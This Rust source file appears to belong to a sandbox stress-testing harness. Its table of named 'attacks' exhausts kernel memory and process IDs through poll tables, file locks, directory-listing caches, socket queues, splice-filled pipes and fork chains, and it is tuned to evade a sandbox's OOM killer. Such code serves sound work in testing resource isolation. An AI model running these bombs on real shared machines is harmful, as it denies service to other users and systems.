//! Attacks that fill kernel memory rather than their own: with data of blocked system calls, locks,
//! directory listings and socket queues. Each takes all that it can get, prints that the bomb is
//! set, and keeps it.

use linux_raw_sys::general as raw;
use rustix::{
    fs::{CWD, FileType, Mode, OFlags},
    io::Result,
    net::{AddressFamily, SocketType, socket},
};
use shim::{say, say::Text, sys::Start};

use crate::{
    bombs::{pause, set},
    call::{Table, c, call, call3, fork, number, open},
};

pub const ATTACKS: Table = &[
    // about 400 KiB each, including the process: they fit into a sandbox of 64 MiB without its OOM
    // killer
    ("poll_wait", |_| held(100, Has::Waiting, poll)),
    ("poll_bomb", |_| {
        set();
        held(PROCESSES, Has::Waiting, poll)
    }),
    ("lock_fill", |_| held(6, Has::Done, locks)),
    ("link_list", |_| held(1, Has::Done, list)),
    ("name_wait", |_| held(PROCESSES, Has::Waiting, name)),
    ("control_wait", |_| held(300, Has::Waiting, control)),
    ("netlink_fill", |_| held(2, Has::Done, netlink)),
    ("cork_fill", |_| held(2, Has::Done, cork)),
    ("backlog_fill", |_| held(1, Has::Done, backlog)),
    ("splice_fill", |_| held(2, Has::Done, splice)),
    ("number_fill", numbers),
];

/// Fewer processes than a user may have on a machine of 256 MiB.
const PROCESSES: u32 = 470;
/// Open files of a process: the kernel's default hard limit.
const FILES: u64 = 4096;
/// Tasks of one user, each of which takes three process IDs. Two users together take all 32,768,
/// the default of a small machine.
const NUMBERS: u32 = 5600;
/// Bytes of the memory that all these processes map and share.
const WEIGHT: usize = 1 << 20;
const FIFO: &core::ffi::CStr = c"/tmp/fifo";

/// When a process holds its memory: while it blocks in a system call, or once its calls have
/// returned.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Has {
    Waiting,
    Done,
}

/// Runs `hold` in so many processes and keeps them. If the OOM killer of the sandbox kills some,
/// they are not replaced.
fn held(processes: u32, has: Has, hold: fn(u32)) -> Result<()> {
    let _ = rustix::fs::mknodat(CWD, FIFO, FileType::Fifo, Mode::RWXU, 0);
    let (read, write) = rustix::pipe::pipe()?;
    let pause_for = |seconds| {
        let _ = rustix::thread::nanosleep(&rustix::thread::Timespec { tv_sec: seconds, tv_nsec: 0 });
    };
    // MAP_SHARED, MAP_ANONYMOUS: nothing that could be written back, so it stays in memory
    let weight = call(raw::__NR_mmap, [0, WEIGHT, 3, 0x21, usize::MAX, 0])?;
    // meanwhile the meter reads how much was in use before
    pause_for(5);
    for process in 0..processes {
        if let Ok(None) = fork() {
            let limit = [FILES, FILES];
            let _ = call(raw::__NR_prlimit64, [0, 7, limit.as_ptr() as usize, 0, 0, 0]); // RLIMIT_NOFILE
            // the OOM killer takes the largest process: the shared pages make these larger than the
            // one that calls `set`
            let _ = call3(raw::__NR_madvise, weight, WEIGHT, 23); // MADV_POPULATE_WRITE
            let end = number(&write);
            if has == Has::Waiting {
                let _ = call3(raw::__NR_close, end, 0, 0);
            }
            hold(process);
            if has == Has::Done {
                let _ = call3(raw::__NR_close, end, 0, 0);
            }
            pause()
        }
    }
    drop(write);
    // returns when the last process has closed its end, or is gone
    let _ = rustix::io::read(&read, &mut [0; 1]);
    pause_for(4);
    set();
    pause()
}

/// Makes the kernel allocate a page for each 63 polled descriptors (fs/select.c, `struct
/// poll_table_page`).
fn poll(_: u32) {
    let Ok(fifo) = open(FIFO, OFlags::RDWR | OFlags::NONBLOCK) else { return };
    let one = number(&fifo) as u64 | 2 << 32; // struct pollfd, POLLPRI
    let all = [one; FILES as usize];
    let _ = call(raw::__NR_ppoll, [all.as_ptr() as usize, all.len(), 0, 0, 8, 0]);
}

/// Takes 300 locks of one byte each in 3,800 open files.
fn locks(process: u32) {
    for file in 0..3800_u32 {
        let mut path = Text::new();
        say!(&mut path, "/tmp/lock", file % 500, "\0");
        let Ok(fd) = open(c(&path), OFlags::RDWR | OFlags::CREATE) else { return };
        for lock in 0..300_u64 {
            let start = u64::from(process) << 40 | u64::from(file) << 16 | lock << 1;
            let lock = [1, start, 1, 0]; // struct flock: F_WRLCK, SEEK_SET; start; length
            if call3(raw::__NR_fcntl, number(&fd), 6, lock.as_ptr() as usize).is_err() {
                return;
            }
        }
        core::mem::forget(fd);
    }
}

/// Opens a folder of 8,000 names 40 times. It is a merged folder of the overlay, for which the
/// kernel caches a list of names. The folder changes after each call, so that each descriptor gets
/// a list of its own. One folder with 40 times as many names would take as much memory, but minutes
/// to make.
fn list(_: u32) {
    let mut from = Text::new();
    for number in 0..8000_u32 {
        let mut path = Text::new();
        say!(&mut path, "/lib/", number, "-");
        // a name is at most 255 bytes long
        while path.len() < 250 {
            say!(&mut path, "-");
        }
        say!(&mut path, "\0");
        if number == 0 {
            let _ = open(c(&path), OFlags::WRONLY | OFlags::CREATE);
            from = path;
        } else if rustix::fs::linkat(CWD, c(&from), CWD, c(&path), rustix::fs::AtFlags::empty()).is_err() {
            break;
        }
    }
    for _ in 0..40 {
        let Ok(folder) = open(c"/lib", OFlags::RDONLY | OFlags::DIRECTORY) else { return };
        let mut names = [0_u8; 512];
        let _ = call3(raw::__NR_getdents64, number(&folder), names.as_mut_ptr() as usize, names.len());
        core::mem::forget(folder);
        let _ = rustix::fs::mkdirat(CWD, c"/lib/new", Mode::RWXU);
        let _ = rustix::fs::unlinkat(CWD, c"/lib/new", rustix::fs::AtFlags::REMOVEDIR);
    }
}

/// Opens a path of 4 KiB to a FIFO. The kernel holds the path until somebody opens the FIFO for
/// writing.
fn name(_: u32) {
    let mut path = [b'/'; 4090];
    if let Some(end) = path.last_chunk_mut() {
        *end = *b"/tmp/fifo\0";
    }
    let _ = call(raw::__NR_openat, [0, path.as_ptr() as usize, 0, 0, 0, 0]);
}

/// Sends a message with control data while the receiver's queue is full, so that the call blocks.
fn control(_: u32) {
    const LENGTH: usize = 100 << 10;
    // struct cmsghdr: a level that no family reads
    let mut data = [0_usize; LENGTH / 8];
    if let Some(head) = data.first_chunk_mut() {
        *head = [LENGTH, 77];
    }
    let mut pair = [0_u32; 2];
    let _ = call(raw::__NR_socketpair, [1, 2, 0, pair.as_mut_ptr() as usize, 0, 0]); // AF_UNIX, SOCK_DGRAM
    let socket = pair[0] as usize;
    while call(raw::__NR_sendto, [socket, pair.as_ptr() as usize, 1, 0x40, 0, 0]).is_ok() {} // MSG_DONTWAIT
    let vector = [pair.as_ptr() as usize, 1];
    let message = [0, 0, vector.as_ptr() as usize, 1, data.as_ptr() as usize, LENGTH, 0]; // struct msghdr
    let _ = call3(raw::__NR_sendmsg, socket, message.as_ptr() as usize, 0);
}

/// Asks for netlink answers and does not read them.
fn netlink(_: u32) {
    while let Ok(socket) = socket(AddressFamily::NETLINK, SocketType::RAW, None) {
        // struct nlmsghdr: 32 bytes, RTM_GETLINK, NLM_F_REQUEST; struct ifinfomsg: the first interface
        let request = [32_u32, 0x0001_0012, 1, 0, 0, 1, 0, 0];
        for _ in 0..1000 {
            if call(raw::__NR_sendto, [number(&socket), request.as_ptr() as usize, 32, 0x40, 0, 0]).is_err() {
                break;
            }
        }
        core::mem::forget(socket);
    }
}

/// Starts datagrams with MSG_MORE, so that the kernel waits for the rest.
fn cork(_: u32) {
    let data = [0_u8; 60_000];
    while let Ok(socket) = socket(AddressFamily::INET, SocketType::DGRAM, None) {
        let address = inet(9, 1);
        // MSG_MORE, MSG_DONTWAIT
        let (data, address) = ([data.as_ptr() as usize, data.len()], address.as_ptr() as usize);
        let _ = call(raw::__NR_sendto, [number(&socket), data[0], data[1], 0x8040, address, 16]);
        core::mem::forget(socket);
    }
}

/// struct sockaddr_in: a port of 127.0.0.0/24.
fn inet(port: u16, host: u8) -> [u8; 16] {
    let [high, low] = port.to_be_bytes();
    [2, 0, high, low, 127, 0, 0, host, 0, 0, 0, 0, 0, 0, 0, 0]
}

/// Makes connections that nobody accepts, and closes their clients.
fn backlog(_: u32) {
    for port in 2000..2040 {
        let Ok(listener) = socket(AddressFamily::INET, SocketType::STREAM, None) else { return };
        let address = inet(port, 1);
        let _ = call3(raw::__NR_bind, number(&listener), address.as_ptr() as usize, 16);
        let _ = call3(raw::__NR_listen, number(&listener), 4096, 0);
        for _ in 0..4000 {
            let Ok(client) = socket(AddressFamily::INET, SocketType::STREAM, None) else { return };
            if call3(raw::__NR_connect, number(&client), address.as_ptr() as usize, 16).is_err() {
                break;
            }
            let _ = call3(raw::__NR_shutdown, number(&client), 2, 0);
        }
        core::mem::forget(listener);
    }
}

/// Fills pipes with pages that belong to no file.
fn splice(_: u32) {
    let Ok(zero) = open(c"/dev/zero", OFlags::RDONLY) else { return };
    while let Ok((read, write)) = rustix::pipe::pipe() {
        // SPLICE_F_NONBLOCK
        while call(raw::__NR_splice, [number(&zero), 0, number(&write), 0, 1 << 16, 2]).is_ok_and(|bytes| bytes > 0) {}
        core::mem::forget((read, write));
    }
}

/// Starts tasks, each of which blocks two more process IDs: those of its session and its process
/// group, whose leaders have ended.
fn numbers(_: Start) -> Result<()> {
    for _ in 0..NUMBERS {
        match fork() {
            Ok(None) => {
                let _ = rustix::process::setsid();
                if let Ok(None) = fork() {
                    let _ = rustix::process::setpgid(None, None);
                    if let Ok(None) = fork() {
                        pause()
                    }
                }
                shim::sys::exit(0)
            }
            Ok(Some(child)) => drop(crate::call::wait(child)),
            Err(_) => break,
        }
    }
    set();
    pause()
}
